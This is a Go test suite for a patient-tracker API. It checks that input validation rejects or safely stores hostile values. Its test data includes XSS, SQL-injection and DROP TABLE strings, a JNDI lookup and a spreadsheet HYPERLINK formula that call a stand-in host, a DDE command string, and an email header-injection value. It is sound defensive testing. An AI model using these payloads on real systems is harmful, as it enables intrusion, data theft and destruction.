package api_test

import (
	"encoding/json"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"patienttracker/handler/api"
)

// patientBody is a valid create body with one field replaced.
func patientBody(field string, value any) map[string]any {
	b := map[string]any{"givenNames": "Valid", "familyName": "Person",
		"birthDate": "1980-01-02", "sex": "female"}
	if field != "" {
		b[field] = value
	}
	return b
}

// fieldCodes lists a 422's errors as "field:code".
func fieldCodes(t testing.TB, res result) []string {
	t.Helper()
	var p struct {
		Errors []struct{ Field, Code string } `json:"errors"`
	}
	if err := json.Unmarshal(res.body, &p); err != nil {
		t.Fatalf("decode problem: %v", err)
	}
	var out []string
	for _, e := range p.Errors {
		out = append(out, e.Field+":"+e.Code)
	}
	slices.Sort(out)
	return out
}

// expectInvalid posts a patient body and expects a 422 naming exactly these faults, with
// no trace of the rejected value in the answer.
func (e *env) expectInvalid(body map[string]any, value string, faults ...string) {
	e.t.Helper()
	res := e.do(req{user: "u-clin", method: "POST", path: "/api/patients", body: body})
	e.checkProblem(res, http.StatusUnprocessableEntity, "validation_failed")
	if got := fieldCodes(e.t, res); !slices.Equal(got, faults) {
		e.t.Errorf("faults %v, want %v", got, faults)
	}
	if value != "" && strings.Contains(string(res.body), value) {
		e.t.Errorf("422 echoes the rejected value: %s", res.body)
	}
}

func (e *env) expectCreated(body map[string]any) map[string]any {
	e.t.Helper()
	res := e.do(req{user: "u-clin", method: "POST", path: "/api/patients", body: body})
	checkJSON(e.t, res, http.StatusCreated)
	return res.json(e.t)
}

func TestV1_AngleBracketsInNames(t *testing.T) {
	t.Parallel()
	e := sharedEnv(t)
	v := "<img src=x onerror=alert(1)>"
	e.expectInvalid(patientBody("givenNames", v), v, "givenNames:forbidden_char")
	e.expectInvalid(patientBody("familyName", "a>b"), "", "familyName:forbidden_char")
	res := e.do(req{user: "u-admin", method: "POST", path: "/api/staff", body: map[string]any{
		"email": "x@clinic.test", "displayName": v, "role": "clinician"}})
	e.checkProblem(res, http.StatusUnprocessableEntity, "validation_failed")
}

// TestV2_V19_NotesStoredAsSent: notes are text, stored and returned exactly; nothing is
// evaluated or templated. (The API has no URL-typed field, so V2's URL half is moot.)
func TestV2_V19_NotesStoredAsSent(t *testing.T) {
	t.Parallel()
	e := sharedEnv(t)
	p := e.createPatient("Notes", "Holder", "1970-01-01")["id"].(string)
	for _, note := range []string{`"><svg onload=alert(1)>`, "javascript:alert(document.domain)",
		"{{7*7}}", "${jndi:ldap://x.test/a}", "<script>alert(1)</script>", "%s %d %v"} {
		v := e.createVisit(p, "2026-11-02T09:30:00Z", note)
		res := e.do(req{user: "u-clin", method: "GET", path: "/api/visits/" + v["id"].(string)})
		checkJSON(t, res, http.StatusOK)
		if got := res.json(t)["notes"]; got != note {
			t.Errorf("notes read back %q, want %q", got, note)
		}
		if n := e.count("SELECT count(*) FROM visits WHERE notes = $1", note); n != 1 {
			t.Errorf("note %q stored %d times as sent", note, n)
		}
	}
}

// TestV3_MRNInjection: an MRN is never accepted from a client, and searching for an
// injection finds nothing, the text reaching PostgreSQL only as a bound parameter.
func TestV3_MRNInjection(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.createPatient("Ann", "Lee", "1980-01-02")
	inj := "' OR 1=1 --"
	res := e.do(req{user: "u-clin", method: "POST", path: "/api/patients",
		body: patientBody("mrn", inj)})
	e.checkProblem(res, http.StatusBadRequest, "unknown_field")
	for _, q := range []string{inj, "PT-0100000-0", "' OR '1'='1"} {
		res = e.do(req{user: "u-clin", method: "POST", path: "/api/patients/search",
			body: map[string]any{"q": q}})
		checkJSON(t, res, http.StatusOK)
		if total := res.json(t)["total"]; total != float64(0) {
			t.Errorf("search %q: total %v, want 0", q, total)
		}
	}
	for _, sql := range e.stmts.statements() {
		if strings.Contains(sql, "1=1") || strings.Contains(sql, "'1'='1") {
			t.Errorf("search text reached SQL text: %s", sql)
		}
	}
}

func TestV4_SortInjection(t *testing.T) {
	t.Parallel()
	e := sharedEnv(t)
	for _, sort := range []string{"name;DROP TABLE patients--",
		"1,extractvalue(0x0a,concat(0x0a,(select version())))", "family_name", "Name", " name"} {
		res := e.do(req{user: "u-clin", method: "POST", path: "/api/patients/search",
			body: map[string]any{"sort": sort}})
		e.checkProblem(res, http.StatusBadRequest, "invalid_sort")
	}
	for _, sql := range e.stmts.statements() {
		if strings.Contains(sql, "DROP") || strings.Contains(sql, "extractvalue") {
			t.Errorf("sort text reached SQL: %s", sql)
		}
	}
	if n := e.count("SELECT count(*) FROM pg_tables WHERE tablename = 'patients'"); n != 1 {
		t.Error("patients table is gone")
	}
}

// TestV5_LikeCharacters: %, _ and \ are never wildcards (they match nothing, not
// everything), and a query over 100 characters is 400.
func TestV5_LikeCharacters(t *testing.T) {
	t.Parallel()
	e := sharedEnv(t)
	e.createPatient("Vfive", "Percent", "1980-01-02")
	e.createPatient("Vfive", "Underscore", "1981-02-03")
	for _, q := range []string{"%", "_", `\`, "%%", "_%_", `\%`, "%_\\"} {
		res := e.do(req{user: "u-clin", method: "POST", path: "/api/patients/search",
			body: map[string]any{"q": q}})
		checkJSON(t, res, http.StatusOK)
		if total := res.json(t)["total"]; total != float64(0) {
			t.Errorf("search %q matched %v patients, want 0", q, total)
		}
	}
	res := e.do(req{user: "u-clin", method: "POST", path: "/api/patients/search",
		body: map[string]any{"q": strings.Repeat("a", 10000)}})
	e.checkProblem(res, http.StatusBadRequest, "query_too_long")
}

func TestV6_ImpossibleDate(t *testing.T) {
	t.Parallel()
	e := sharedEnv(t)
	e.expectInvalid(patientBody("birthDate", "2024-02-30"), "2024-02-30", "birthDate:invalid_date")
	e.expectInvalid(patientBody("deceasedDate", "2024-02-30"), "", "deceasedDate:invalid_date")
}

// TestV7_BirthDateRange: "tomorrow" is the clinic's tomorrow. The clock reads 2026-11-30
// 15:00 UTC, which is already 2026-12-01 at Kiritimati and still 2026-11-30 at Adak.
func TestV7_BirthDateRange(t *testing.T) {
	t.Parallel()
	zone := func(name string) func(*api.Config) {
		return func(c *api.Config) {
			loc, err := time.LoadLocation(name)
			if err != nil {
				t.Fatalf("load %s: %v", name, err)
			}
			c.ClinicLocation = loc
		}
	}
	kiritimati := newEnv(t, zone("Pacific/Kiritimati"))
	kiritimati.expectCreated(patientBody("birthDate", "2026-12-01"))
	kiritimati.expectInvalid(patientBody("birthDate", "2026-12-02"), "",
		"birthDate:future_date")

	adak := newEnv(t, zone("America/Adak"))
	adak.expectCreated(patientBody("birthDate", "2026-11-30"))
	adak.expectInvalid(patientBody("birthDate", "2026-12-01"), "", "birthDate:future_date")
	adak.expectInvalid(patientBody("birthDate", "1899-12-31"), "", "birthDate:too_old")
	adak.expectInvalid(patientBody("birthDate", "0000-01-01"), "", "birthDate:too_old")
	adak.expectCreated(patientBody("birthDate", "1900-01-01"))
}

func TestV8_LeapDay(t *testing.T) {
	t.Parallel()
	e := sharedEnv(t)
	p := e.expectCreated(patientBody("birthDate", "2024-02-29"))
	if p["birthDate"] != "2024-02-29" {
		t.Errorf("birthDate %v", p["birthDate"])
	}
	e.expectInvalid(patientBody("birthDate", "2023-02-29"), "", "birthDate:invalid_date")
}

func TestV9_BirthDateFormats(t *testing.T) {
	t.Parallel()
	e := sharedEnv(t)
	for _, s := range []string{"2024-01-05T00:00:00Z", "05/01/2024", "2024-1-5", "19900101",
		"1990-01-01 ", "1990-01-01T00:00:00+14:00"} {
		e.expectInvalid(patientBody("birthDate", s), "", "birthDate:invalid_date")
	}
	res := e.do(req{user: "u-clin", method: "POST", path: "/api/patients",
		body: patientBody("birthDate", 19900101)})
	e.checkProblem(res, http.StatusBadRequest, "type_mismatch")
	if n := e.count("SELECT count(*) FROM information_schema.columns WHERE table_name = " +
		"'patients' AND column_name IN ('birth_date', 'deceased_date') AND data_type = 'date'"); n != 2 {
		t.Errorf("%d of birth_date, deceased_date are DATE columns, want 2", n)
	}
}

func TestV10_ControlCharacters(t *testing.T) {
	t.Parallel()
	e := sharedEnv(t)
	res := e.do(req{user: "u-clin", method: "POST", path: "/api/patients",
		body: `{"givenNames":"A\u0000B","familyName":"Lee","birthDate":"1980-01-02","sex":"male"}`})
	e.checkProblem(res, http.StatusUnprocessableEntity, "validation_failed")
	if got := fieldCodes(t, res); !slices.Equal(got, []string{"givenNames:control_char"}) {
		t.Errorf("faults %v", got)
	}
	for field, v := range map[string]any{"familyName": "Lee\u202eeno", "phone": "555\u00000100",
		"address": map[string]any{"city": "A\u0000"}} {
		res := e.do(req{user: "u-clin", method: "POST", path: "/api/patients",
			body: patientBody(field, v)})
		if res.status != http.StatusUnprocessableEntity {
			t.Errorf("%s with a control character: %d %s", field, res.status, res.body)
		}
	}
}

func TestV12_InvalidUTF8(t *testing.T) {
	t.Parallel()
	e := sharedEnv(t)
	d := e.seedData()
	bad := []byte("{\"givenNames\":\"a\xffb\",\"familyName\":\"Lee\",\"birthDate\":\"1980-01-02\"," +
		"\"sex\":\"male\"}")
	for _, r := range []req{
		{user: "u-clin", method: "POST", path: "/api/patients", body: bad},
		{user: "u-clin", method: "POST", path: "/api/patients/search",
			body: []byte("{\"q\":\"a\xffb\"}")},
		{user: "u-clin", method: "PATCH", path: "/api/patients/" + d.P1, body: bad,
			headers: map[string]string{"If-Match": `"1"`}},
		{user: "u-clin", method: "POST", path: "/api/patients/" + d.P1 + "/visits",
			body: []byte("{\"start\":\"2026-11-30T09:00:00Z\",\"notes\":\"\xff\"}")},
	} {
		res := e.do(r)
		e.checkProblem(res, http.StatusBadRequest, "invalid_utf8")
	}
	if n := e.count("SELECT count(*) FROM patients " +
		"WHERE given_names LIKE '%' || chr(65533) || '%'"); n != 0 {
		t.Error("U+FFFD stored")
	}
}

func TestV13_TooLong(t *testing.T) {
	t.Parallel()
	e := sharedEnv(t)
	e.expectInvalid(patientBody("familyName", strings.Repeat("a", 10000)), "",
		"familyName:too_long")
	e.expectCreated(patientBody("familyName", strings.Repeat("é", 200)))
	e.expectInvalid(patientBody("familyName", strings.Repeat("é", 201)), "", "familyName:too_long")
}

// TestV14_V15_NamesReadBackExactly: real names and formula-like text are ordinary names,
// stored and returned byte for byte.
func TestV14_V15_NamesReadBackExactly(t *testing.T) {
	t.Parallel()
	e := sharedEnv(t)
	names := []string{"José Ñúñez", "李小龍", "O'Brien", "Smith-Jones", "Nguyễn Văn A",
		"O’Brien", `=HYPERLINK("http://x.test/?"&A1,"click")`, "+cmd|' /C calc'!A0",
		"@SUM(1+1)", "-2+3"}
	for _, name := range names {
		p := e.expectCreated(patientBody("familyName", name))
		res := e.do(req{user: "u-front", method: "GET", path: "/api/patients/" + p["id"].(string)})
		checkJSON(t, res, http.StatusOK)
		if got := res.json(t)["familyName"]; got != name {
			t.Errorf("read back %q, want %q", got, name)
		}
		if n := e.count("SELECT count(*) FROM patients WHERE family_name = $1", name); n != 1 {
			t.Errorf("%q stored %d times byte for byte", name, n)
		}
	}
}

func TestV16_TypeMismatch(t *testing.T) {
	t.Parallel()
	e := sharedEnv(t)
	for field, v := range map[string]any{"birthDate": 19900101, "givenNames": []string{"a"},
		"familyName": nil, "sex": map[string]any{}, "phone": 5550100, "identifiers": "x",
		"address": []any{}} {
		res := e.do(req{user: "u-clin", method: "POST", path: "/api/patients",
			body: patientBody(field, v)})
		e.checkProblem(res, http.StatusBadRequest, "type_mismatch")
	}
	for _, body := range []string{`[]`, `"x"`, `1`, `null`} {
		res := e.do(req{user: "u-clin", method: "POST", path: "/api/patients", body: body})
		if res.status != http.StatusBadRequest {
			t.Errorf("body %s: %d", body, res.status)
		}
		e.checkProblem(res, http.StatusBadRequest, "")
	}
	// The API has no numeric fields (V23): weightKg is an unknown field.
	res := e.do(req{user: "u-clin", method: "POST", path: "/api/patients",
		body: patientBody("weightKg", "70")})
	e.checkProblem(res, http.StatusBadRequest, "unknown_field")
}

func TestV18_EmailAndPhone(t *testing.T) {
	t.Parallel()
	e := sharedEnv(t)
	e.expectInvalid(patientBody("email", "a@b.test\r\nBcc: all@x.test"), "Bcc",
		"email:invalid_email")
	e.expectInvalid(patientBody("phone", "+1 555 0100; DROP"), "DROP", "phone:invalid_phone")
	e.expectCreated(patientBody("phone", "+1 (555) 010-0100"))
	e.expectCreated(patientBody("email", "ann.lee@example.test"))
}

func TestV21_SexCodes(t *testing.T) {
	t.Parallel()
	e := sharedEnv(t)
	for _, v := range []string{"X' OR '1'='1", "male ", "MALE", "f", ""} {
		e.expectInvalid(patientBody("sex", v), "", "sex:invalid_value")
	}
	for _, v := range []string{"female", "male", "other", "unknown"} {
		e.expectCreated(patientBody("sex", v))
	}
	res := e.do(req{user: "u-clin", method: "POST", path: "/api/patients/search",
		body: map[string]any{"sex": "MALE"}})
	e.checkProblem(res, http.StatusUnprocessableEntity, "validation_failed")
}

func TestV22_VisitDates(t *testing.T) {
	t.Parallel()
	e := sharedEnv(t)
	p := e.createPatient("Visit", "Dates", "1990-06-15")["id"].(string)
	path := "/api/patients/" + p + "/visits"
	for start, fault := range map[string]string{
		"2026-11-31T10:00:00Z": "start:invalid_datetime",
		"2026-11-31":           "start:invalid_datetime",
		"1990-06-14T10:00:00Z": "start:before_birth",
		"2026-11-30T10:00:00":  "start:invalid_datetime",
	} {
		res := e.do(req{user: "u-clin", method: "POST", path: path,
			body: map[string]any{"start": start}})
		e.checkProblem(res, http.StatusUnprocessableEntity, "validation_failed")
		if got := fieldCodes(t, res); !slices.Equal(got, []string{fault}) {
			t.Errorf("start %s: faults %v, want %s", start, got, fault)
		}
	}
	v := e.createVisit(p, "2026-11-30T10:00:00Z", "a visit note")
	res := e.do(req{user: "u-clin", method: "PATCH", path: "/api/visits/" + v["id"].(string),
		body:    map[string]any{"start": "1990-01-01T10:00:00Z"},
		headers: map[string]string{"If-Match": `"1"`}})
	e.checkProblem(res, http.StatusUnprocessableEntity, "validation_failed")
	res = e.do(req{user: "u-clin", method: "PATCH", path: "/api/visits/" + v["id"].(string),
		body:    map[string]any{"end": "2026-11-30T09:00:00Z"},
		headers: map[string]string{"If-Match": `"1"`}})
	e.checkProblem(res, http.StatusUnprocessableEntity, "validation_failed")
	if n := e.count("SELECT count(*) FROM visits WHERE patient_id = $1", p); n != 1 {
		t.Errorf("%d visits stored, want 1", n)
	}
}
